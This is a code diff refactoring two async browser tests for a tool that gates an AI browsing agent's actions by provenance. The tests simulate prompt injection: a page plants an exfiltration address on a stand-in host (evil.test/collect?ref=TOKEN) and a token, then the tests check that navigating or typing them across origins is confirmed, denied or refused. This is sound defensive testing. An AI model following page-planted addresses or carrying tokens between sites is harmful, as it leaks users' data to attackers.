@@ -17,15 +17,13 @@ from typing import Any
 import pytest
 
 from tabwarden.browser import ThrowawayBrowser
-from tabwarden.demo import wait_for_extension
 from tests.browser.harness import (
     Request,
     ServedSite,
-    chromium,
     code,
     confirm_page,
     keep_dialogs_open,
-    mcp_client,
+    launched,
     ok,
     press,
     served_pages,
@@ -38,7 +36,6 @@ from tests.fixtures import audit_entries
 
 pytestmark = pytest.mark.browser
 
-GUARD = 240.0  # hang guard only
 TOKEN = "Zx81kq2PLmQ9"
 FLAGS = ["--host-resolver-rules=MAP *.test 127.0.0.1"]
 #: b.test's other page: a select (one of whose options is the planted token), a field, a prompt().
@@ -93,7 +90,7 @@ def _evil_requests(sites: ServedSite) -> list[str]:
 
 
 @pytest.mark.promise("H4-53")
-def test_a_page_planted_address_and_token_ask_naming_the_page_and_a_denial_sends_nothing(
+async def test_a_page_planted_address_and_token_ask_naming_the_page_and_a_denial_sends_nothing(
     browser: ThrowawayBrowser, port: int, sites: ServedSite
 ) -> None:
     a, b, c, evil = (f"http://{h}.test:{port}" for h in ("a", "b", "c", "evil"))
@@ -102,65 +99,61 @@ def test_a_page_planted_address_and_token_ask_naming_the_page_and_a_denial_sends
     injected = f"{evil}/collect?ref={TOKEN}"
     _grant_test_hosts(browser)
 
-    async def scenario() -> None:
-        async with chromium(browser, extra_flags=FLAGS) as context, mcp_client(browser) as agent:
-            await wait_for_extension(agent, asyncio.get_running_loop().time() + 60)
-            # An address the agent composed itself: no lineage, the policy as usual (approved).
-            tab = (await ok(agent, "tab_open", {"url": f"{a}/"}))["tab"]["id"]
-            text = await ok(agent, "page_text", {"tabId": tab})
-            assert injected in text["text"]
+    async with launched(browser, extra_flags=FLAGS) as (context, agent):
+        # An address the agent composed itself: no lineage, the policy as usual (approved).
+        tab = (await ok(agent, "tab_open", {"url": f"{a}/"}))["tab"]["id"]
+        text = await ok(agent, "page_text", {"tabId": tab})
+        assert injected in text["text"]
 
-            # The injected address: the window names the page that supplied it; denied.
-            going = asyncio.create_task(
-                agent.call_tool("page_navigate", {"tabId": tab, "url": injected})
-            )
-            window = await confirm_page(context)
-            await shows(window, f"A page on {a} suggested this address")
-            await shows(window, injected)
-            await press(window, "#deny")
-            result = await going
-            assert result.is_error and "confirm_denied" in str(result.content)
-            assert _evil_requests(sites) == []  # nothing reached the attacker's server
+        # The injected address: the window names the page that supplied it; denied.
+        going = asyncio.create_task(
+            agent.call_tool("page_navigate", {"tabId": tab, "url": injected})
+        )
+        window = await confirm_page(context)
+        await shows(window, f"A page on {a} suggested this address")
+        await shows(window, injected)
+        await press(window, "#deny")
+        result = await going
+        assert result.is_error and "confirm_denied" in str(result.content)
+        assert _evil_requests(sites) == []  # nothing reached the attacker's server
 
-            # The planted token typed into another origin's form: the window names both; denied,
-            # and the field stays empty.
-            form = (await ok(agent, "tab_open", {"url": f"{b}/form"}))["tab"]["id"]
-            filling = asyncio.create_task(
-                agent.call_tool("page_fill", {"tabId": form, "selector": "#user", "value": TOKEN})
-            )
-            window = await confirm_page(context)
-            await shows(window, f"type into {b} a value that came from a page on {a}")
-            await press(window, "#deny")
-            assert "confirm_denied" in str((await filling).content)
-            state = await ok(agent, "page_get_state", {"tabId": form, "selector": "#user"})
-            assert state["value"] == ""
-            # The form's own URL is the bridge's report of where the tab is, not what a page
-            # wrote: typing it carries no lineage at all (no window, nothing audited).
-            await ok(agent, "page_fill", {"tabId": form, "selector": "#user", "value": f"{b}/form"})
+        # The planted token typed into another origin's form: the window names both; denied,
+        # and the field stays empty.
+        form = (await ok(agent, "tab_open", {"url": f"{b}/form"}))["tab"]["id"]
+        filling = asyncio.create_task(
+            agent.call_tool("page_fill", {"tabId": form, "selector": "#user", "value": TOKEN})
+        )
+        window = await confirm_page(context)
+        await shows(window, f"type into {b} a value that came from a page on {a}")
+        await press(window, "#deny")
+        assert "confirm_denied" in str((await filling).content)
+        state = await ok(agent, "page_get_state", {"tabId": form, "selector": "#user"})
+        assert state["value"] == ""
+        # The form's own URL is the bridge's report of where the tab is, not what a page
+        # wrote: typing it carries no lineage at all (no window, nothing audited).
+        await ok(agent, "page_fill", {"tabId": form, "selector": "#user", "value": f"{b}/form"})
 
-            # An address no page mentioned: the policy decides (c is approved): no window.
-            landed = await ok(agent, "page_navigate", {"tabId": tab, "url": f"{c}/plain"})
-            assert landed["url"] == f"{c}/plain"
+        # An address no page mentioned: the policy decides (c is approved): no window.
+        landed = await ok(agent, "page_navigate", {"tabId": tab, "url": f"{c}/plain"})
+        assert landed["url"] == f"{c}/plain"
 
-            # strict: refused without a window, naming the page; still nothing at evil.test.
-            widen(browser, provenance="strict")
-            assert await code(agent, "page_navigate", {"tabId": tab, "url": injected}) == (
-                "provenance_refused"
-            )
-            assert await code(agent, "tab_open", {"url": injected}) == "provenance_refused"
-            typed = {"tabId": form, "selector": "#user", "value": TOKEN}
-            assert await code(agent, "page_type", typed) == "provenance_refused"
-            state = await ok(agent, "page_get_state", {"tabId": form, "selector": "#user"})
-            assert state["value"] == f"{b}/form"  # nothing was typed
-            assert _evil_requests(sites) == []
+        # strict: refused without a window, naming the page; still nothing at evil.test.
+        widen(browser, provenance="strict")
+        assert await code(agent, "page_navigate", {"tabId": tab, "url": injected}) == (
+            "provenance_refused"
+        )
+        assert await code(agent, "tab_open", {"url": injected}) == "provenance_refused"
+        typed = {"tabId": form, "selector": "#user", "value": TOKEN}
+        assert await code(agent, "page_type", typed) == "provenance_refused"
+        state = await ok(agent, "page_get_state", {"tabId": form, "selector": "#user"})
+        assert state["value"] == f"{b}/form"  # nothing was typed
+        assert _evil_requests(sites) == []
 
-            # off: the person chose to let page-suggested addresses through.
-            widen(browser, provenance="off")
-            went = await ok(agent, "page_navigate", {"tabId": tab, "url": injected})
-            assert went["url"] == injected
-            assert "/collect?ref=" + TOKEN in _evil_requests(sites)
-
-    asyncio.run(asyncio.wait_for(scenario(), GUARD))
+        # off: the person chose to let page-suggested addresses through.
+        widen(browser, provenance="off")
+        went = await ok(agent, "page_navigate", {"tabId": tab, "url": injected})
+        assert went["url"] == injected
+        assert "/collect?ref=" + TOKEN in _evil_requests(sites)
     decisions = [e for e in audit_entries(config) if e["event"] == "provenance"]
     assert [(d["tool"], d["decision"]) for d in decisions] == [
         ("page_navigate", "confirm_denied"),
@@ -177,7 +170,7 @@ def test_a_page_planted_address_and_token_ask_naming_the_page_and_a_denial_sends
 
 
 @pytest.mark.promise("H4-55")
-def test_a_planted_token_chosen_in_a_select_answered_to_a_prompt_or_keyed_in_asks_naming_both(
+async def test_a_planted_token_chosen_in_a_select_answered_to_a_prompt_or_keyed_in_asks_naming_both(
     browser: ThrowawayBrowser, port: int
 ) -> None:
     """page_select, page_dialog's promptText and page_keys get the gate page_fill has: the token
@@ -188,60 +181,52 @@ def test_a_planted_token_chosen_in_a_select_answered_to_a_prompt_or_keyed_in_ask
     trust_this_process(browser, [a, b])
     _grant_test_hosts(browser)
 
-    async def scenario() -> None:
-        async with chromium(browser, extra_flags=FLAGS) as context, mcp_client(browser) as agent:
-            keep_dialogs_open(context)
-            await wait_for_extension(agent, asyncio.get_running_loop().time() + 60)
-            tab = (await ok(agent, "tab_open", {"url": f"{a}/"}))["tab"]["id"]
-            assert TOKEN in (await ok(agent, "page_text", {"tabId": tab}))["text"]
-            form = (await ok(agent, "tab_open", {"url": f"{b}/widgets"}))["tab"]["id"]
+    async with launched(browser, extra_flags=FLAGS) as (context, agent):
+        keep_dialogs_open(context)
+        tab = (await ok(agent, "tab_open", {"url": f"{a}/"}))["tab"]["id"]
+        assert TOKEN in (await ok(agent, "page_text", {"tabId": tab}))["text"]
+        form = (await ok(agent, "tab_open", {"url": f"{b}/widgets"}))["tab"]["id"]
 
-            async def state(selector: str) -> dict[str, Any]:
-                return await ok(agent, "page_get_state", {"tabId": form, "selector": selector})
+        async def state(selector: str) -> dict[str, Any]:
+            return await ok(agent, "page_get_state", {"tabId": form, "selector": selector})
 
-            # The token chosen in b.test's select: one window naming both; denied, unchanged.
-            choosing = asyncio.create_task(
-                agent.call_tool("page_select", {"tabId": form, "selector": "#s", "value": TOKEN})
-            )
-            window = await confirm_page(context)
-            await shows(window, f'"{TOKEN}" on {b}, a value that came from a page on {a}')
-            await press(window, "#deny")
-            assert (tool_error(await choosing) or {}).get("code") == "confirm_denied"
-            assert (await state("#s"))["value"] == "none"
+        # The token chosen in b.test's select: one window naming both; denied, unchanged.
+        choosing = asyncio.create_task(
+            agent.call_tool("page_select", {"tabId": form, "selector": "#s", "value": TOKEN})
+        )
+        window = await confirm_page(context)
+        await shows(window, f'"{TOKEN}" on {b}, a value that came from a page on {a}')
+        await press(window, "#deny")
+        assert (tool_error(await choosing) or {}).get("code") == "confirm_denied"
+        assert (await state("#s"))["value"] == "none"
 
-            # The token answered to b.test's prompt(): asked, denied; the prompt is still open,
-            # and dismissing it (free) shows nothing was typed.
-            opened = tool_error(
-                await agent.call_tool("page_click", {"tabId": form, "selector": "#ask"})
-            )
-            assert (opened or {}).get("code") == "dialog_open"
-            answering = asyncio.create_task(
-                agent.call_tool(
-                    "page_dialog", {"tabId": form, "action": "accept", "promptText": TOKEN}
-                )
-            )
-            window = await confirm_page(context)
-            await shows(window, f"answering it with a value that came from a page on {a}")
-            await press(window, "#deny")
-            assert (tool_error(await answering) or {}).get("code") == "confirm_denied"
-            await ok(agent, "page_dialog", {"tabId": form, "action": "dismiss"})
-            assert (await state("#state"))["text"] == "name=null"
+        # The token answered to b.test's prompt(): asked, denied; the prompt is still open,
+        # and dismissing it (free) shows nothing was typed.
+        opened = tool_error(
+            await agent.call_tool("page_click", {"tabId": form, "selector": "#ask"})
+        )
+        assert (opened or {}).get("code") == "dialog_open"
+        answering = asyncio.create_task(
+            agent.call_tool("page_dialog", {"tabId": form, "action": "accept", "promptText": TOKEN})
+        )
+        window = await confirm_page(context)
+        await shows(window, f"answering it with a value that came from a page on {a}")
+        await press(window, "#deny")
+        assert (tool_error(await answering) or {}).get("code") == "confirm_denied"
+        await ok(agent, "page_dialog", {"tabId": form, "action": "dismiss"})
+        assert (await state("#state"))["text"] == "name=null"
 
-            # The token keyed in letter by letter: asked once (that answer covers the policy's
-            # "press" question); allowed, it is typed.
-            keying = asyncio.create_task(
-                agent.call_tool(
-                    "page_keys", {"tabId": form, "selector": "#field", "keys": list(TOKEN)}
-                )
-            )
-            window = await confirm_page(context)
-            await shows(window, f"on {b}, typing a value that came from a page on {a}")
-            await press(window, "#allow")
-            keyed = await keying
-            assert not keyed.is_error, keyed.content
-            assert (await state("#field"))["value"] == TOKEN
-
-    asyncio.run(asyncio.wait_for(scenario(), GUARD))
+        # The token keyed in letter by letter: asked once (that answer covers the policy's
+        # "press" question); allowed, it is typed.
+        keying = asyncio.create_task(
+            agent.call_tool("page_keys", {"tabId": form, "selector": "#field", "keys": list(TOKEN)})
+        )
+        window = await confirm_page(context)
+        await shows(window, f"on {b}, typing a value that came from a page on {a}")
+        await press(window, "#allow")
+        keyed = await keying
+        assert not keyed.is_error, keyed.content
+        assert (await state("#field"))["value"] == TOKEN
     decisions = [e for e in audit_entries(config) if e["event"] == "provenance"]
     assert [(d["tool"], d["decision"], d.get("path")) for d in decisions] == [
         ("page_select", "confirm_denied", None),
